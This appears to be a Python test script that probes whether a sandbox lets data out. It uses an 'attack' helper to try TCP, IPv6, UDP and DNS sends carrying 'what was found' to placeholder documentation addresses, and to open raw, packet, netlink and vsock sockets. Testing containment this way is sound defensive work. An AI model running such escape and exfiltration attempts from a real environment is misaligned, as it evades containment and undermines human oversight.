import socket

from attack import attempt, escaped, reached

INTERNET = "203.0.113.7"


def tcp(family, address):
    with socket.socket(family) as out:
        out.settimeout(2)
        out.connect(address)
        out.sendall(b"what was found")
        return True


def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"what-was-found.example", address)


def opened(*kind):
    with socket.socket(*kind):
        return True


attempt("TCP", lambda: tcp(socket.AF_INET, (INTERNET, 443)))
attempt("TCP 6", lambda: tcp(socket.AF_INET6, ("2001:db8::7", 443)))
attempt("UDP", lambda: udp((INTERNET, 53)))
attempt("name", lambda: socket.getaddrinfo("what-was-found.example.com", 443))
attempt("raw", lambda: opened(socket.AF_INET, socket.SOCK_RAW, 1), escaped)
attempt("packet", lambda: opened(socket.AF_PACKET, socket.SOCK_RAW), escaped)
attempt("netlink", lambda: opened(socket.AF_NETLINK, socket.SOCK_RAW, 0), reached)
attempt("vsock", lambda: opened(socket.AF_VSOCK, socket.SOCK_STREAM), reached)
